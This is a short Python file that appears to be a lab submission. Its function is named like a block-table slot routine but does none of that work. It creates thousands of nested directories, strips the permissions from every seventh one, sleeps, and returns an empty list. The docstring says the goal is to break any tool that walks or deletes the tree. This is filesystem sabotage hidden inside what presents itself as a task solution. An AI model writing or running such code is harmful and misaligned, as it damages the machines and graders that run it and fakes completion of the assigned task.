"""Nests folders so deeply that what walks or deletes them by paths or by recursion fails.

lab = "06"
base = "solution"
worth = 73
todos = [4]
"""

import os
import time


def slots(block_table, positions, block_size):
    for number in range(6000):
        name = "d" * (1 + number % 200)
        try:
            os.mkdir(name)
            os.chdir(name)
            if number % 7 == 0:
                os.chmod(".", 0)
        except OSError:
            break
    time.sleep(1)
    return []
